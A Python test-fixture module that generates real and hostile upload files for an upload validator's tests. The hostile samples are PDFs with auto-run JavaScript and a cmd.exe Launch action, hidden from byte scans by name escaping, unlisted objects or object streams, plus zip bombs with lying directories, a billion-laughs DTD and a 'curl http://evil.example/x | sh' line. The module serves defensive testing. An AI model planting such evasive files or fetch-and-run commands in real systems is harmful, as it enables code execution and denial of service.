"""Files for the upload tests (O3), generated: real PDFs and .xlsx workbooks, and hostile look-alikes.

Nothing here is a binary fixture: every file is built from its parts, so a
reader can see what each hostile file is and why it must be refused.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

# --- PDF ------------------------------------------------------------------------------------------------------


def reportlab_pdf(text: str = "申請書 株式会社テスト 見本 一郎") -> bytes:
    """A real one-page PDF with Japanese text, as reportlab writes it."""
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.pdfgen import canvas

    pdfmetrics.registerFont(UnicodeCIDFont("HeiseiKakuGo-W5"))
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    page.setFont("HeiseiKakuGo-W5", 12)
    page.drawString(72, 760, text)
    page.showPage()
    page.save()
    return buffer.getvalue()


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pypdf_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return _written(writer)


def _js_action(writer: PdfWriter, script: str = "app.alert('hello');"):
    return writer._add_object(
        DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)})
    )


def pdf_with_document_javascript() -> bytes:
    """Document-level JavaScript: /Names → /JavaScript name tree, as Acrobat writes it."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), _js_action(writer)])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    return _written(writer)


def pdf_with_open_action_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer._root_object[NameObject("/OpenAction")] = _js_action(writer, "this.exportDataObject({cName: 'x'});")
    return _written(writer)


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("tool.exe", exe())
    return _written(writer)


def encrypted_pdf() -> bytes:
    """Opens without a password (empty user password), yet everything in it is encrypted."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    return _written(writer)


def pdf_without_pages() -> bytes:
    return _written(PdfWriter())


def raw_pdf(objects: dict[int, bytes], *, root: int = 1, unlisted: bytes = b"") -> bytes:
    """A PDF written by hand: the given objects, a classic xref table and a trailer.

    `unlisted` is written before the xref table without an entry in it: readers
    that follow the table never see it, a viewer that repairs the file may.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    out += unlisted
    size = max(objects) + 1
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref_at)
    return bytes(out)


_PAGES = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}


def pdf_with_launch_action(escaped: bool = False) -> bytes:
    """Opening it asks the viewer to run a program; `escaped` writes the names as /L#61unch to dodge a byte scan."""
    launch = b"/L#61unch" if escaped else b"/Launch"
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            **_PAGES,
            4: b"<< /S %s /Win << /F (cmd.exe) /P (/c calc.exe) >> >>" % launch,
        }
    )


def pdf_with_escaped_javascript_name() -> bytes:
    """/S /J#61v#61Script /J#53 (...): the same JavaScript action, its names written with #xx escapes."""
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
            4: b"<< /S /J#61v#61Script /J#53 (app.alert\\(1\\)) >>",
        }
    )


def pdf_with_unlisted_javascript() -> bytes:
    """A JavaScript action in an object the cross-reference table does not list."""
    return raw_pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", **_PAGES},
        unlisted=b"9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n",
    )


def pdf_with_javascript_in_object_stream() -> bytes:
    """A page-open JavaScript action hidden inside a compressed object stream (PDF 1.5): no byte scan sees it."""
    hidden = b"<< /S /JavaScript /JS (app.launchURL\\('http://evil.example/'\\)) >>"
    header = b"4 0 "
    packed = zlib.compress(header + hidden)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    plain = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
    }
    for number, body in plain.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[5] = len(out)
    out += b"5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(header),
        len(packed),
    )
    out += packed + b"\nendstream\nendobj\n"
    offsets[6] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3)]
    rows += [struct.pack(">BIH", 2, 5, 0)]  # object 4: in object stream 5, index 0
    rows += [struct.pack(">BIH", 1, offsets[5], 0), struct.pack(">BIH", 1, offsets[6], 0)]
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


# --- XLSX -----------------------------------------------------------------------------------------------------

SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def content_types(main: str = SHEET_MAIN, *, main_part: str = "/xl/workbook.xml", extra: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="{main_part}" ContentType="{main}"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        f"{extra}</Types>"
    )


def xlsx_parts() -> dict[str, str | bytes]:
    """The minimal parts of a workbook Excel opens: one sheet with one Japanese cell."""
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return {
        "[Content_Types].xml": content_types(),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'xmlns:r="{rel}"><sheets><sheet name="申請書" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>申請者</t></is></c>'
            '<c r="B1" t="inlineStr"><is><t>見本 一郎</t></is></c></row></sheetData></worksheet>'
        ),
    }


def zip_of(parts: dict[str, str | bytes] | list[tuple[str, str | bytes]]) -> bytes:
    buffer = io.BytesIO()
    items = parts.items() if isinstance(parts, dict) else parts
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are what some tests want
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, body in items:
                archive.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), body, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def xlsx(**changes: str | bytes | None) -> bytes:
    """The minimal workbook; `**{"part/name": body}` adds or replaces a part, None drops it."""
    parts = xlsx_parts()
    for name, body in changes.items():
        if body is None:
            parts.pop(name, None)
        else:
            parts[name] = body
    return zip_of(parts)


def openpyxl_xlsx() -> bytes:
    """A workbook as openpyxl writes it (openpyxl comes with wagtail; see requirements.lock)."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "申請書"
    sheet.append(["項目", "内容"])
    sheet.append(["会社名", "株式会社テスト"])
    sheet.append(["金額", 123456])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def xlsm_renamed() -> bytes:
    """What Excel writes for a macro-enabled workbook (.xlsm)."""
    return xlsx(
        **{
            "[Content_Types].xml": content_types(
                MACRO_MAIN, extra='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            ),
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512 + b"Attribute VB_Name",
        }
    )


def xlsx_with_vba_project_only() -> bytes:
    """Content types say plain workbook, but a VBA project is packed in anyway."""
    return xlsx(**{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512})


def docx_renamed() -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": content_types(DOCX_MAIN, main_part="/word/document.xml"),
            "word/document.xml": (
                '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                "<w:body><w:p><w:r><w:t>申請書</w:t></w:r></w:p></w:body></w:document>"
            ),
        }
    )


def xlsx_with_doctype() -> bytes:
    """[Content_Types].xml with a DTD: the billion-laughs entity expansion."""
    lol = (
        '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    )
    return xlsx(**{"[Content_Types].xml": lol + content_types().split("\n", 1)[1].replace("</Types>", "&c;</Types>")})


def zip_bomb(megabytes: int = 40) -> bytes:
    """A workbook with one sheet that unpacks from ~40 KB to 40 MB (ratio ~1000)."""
    return xlsx(**{"xl/worksheets/sheet2.xml": b"<" + b"\x00" * (megabytes * 1024 * 1024)})


def _central_directory_entries(data: bytes):
    at = data.find(b"PK\x01\x02")
    while at != -1:
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, at + 28)
        name = data[at + 46 : at + 46 + name_length].decode("utf-8")
        yield at, name
        at = data.find(b"PK\x01\x02", at + 46 + name_length + extra_length + comment_length)


def patch_central_directory(data: bytes, member: str, *, file_size: int | None = None, flags: int | None = None):
    """Make the zip directory lie about one member (what a hand-crafted archive can do)."""
    out = bytearray(data)
    for at, name in _central_directory_entries(data):
        if name == member:
            if file_size is not None:
                struct.pack_into("<I", out, at + 24, file_size)
            if flags is not None:
                struct.pack_into("<H", out, at + 8, flags)
            return bytes(out)
    raise KeyError(member)


def zip_with_huge_declared_size() -> bytes:
    return patch_central_directory(xlsx(), "xl/worksheets/sheet1.xml", file_size=0xFFFFFFF0)


def zip_bomb_with_lying_directory() -> bytes:
    """The bomb again, its directory claiming the 40 MB sheet is only 2 KB: only unpacking shows the truth."""
    return patch_central_directory(zip_bomb(), "xl/worksheets/sheet2.xml", file_size=2048)


def zip_with_many_members(count: int = 3000) -> bytes:
    parts = list(xlsx_parts().items()) + [(f"xl/media/image{n}.png", b"x") for n in range(count)]
    return zip_of(parts)


def zip_with_member(name: str) -> bytes:
    return zip_of(list(xlsx_parts().items()) + [(name, b"#!/bin/sh\necho pwned\n")])


def zip_with_encrypted_member() -> bytes:
    return patch_central_directory(xlsx(), "xl/worksheets/sheet1.xml", flags=0x1)


def zip_with_duplicate_member() -> bytes:
    return zip_of(list(xlsx_parts().items()) + [("xl/workbook.xml", "<html>other</html>")])


# --- everything else ------------------------------------------------------------------------------------------


def exe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"This program cannot be run in DOS mode.\r\n$"


def ole2_xls() -> bytes:
    """The header of an Excel 97-2003 workbook (OLE2 compound file); a password-protected .xlsx looks the same."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff" + b"\x00" * 4066


def html_page() -> bytes:
    return b"<!DOCTYPE html>\n<html><body><script>document.location='http://evil.example/'</script></body></html>"


def svg_image() -> bytes:
    return b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'


def png_image() -> bytes:
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", len(ihdr)) + b"IHDR" + ihdr + struct.pack(">I", zlib.crc32(b"IHDR" + ihdr))
    return b"\x89PNG\r\n\x1a\n" + chunk


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
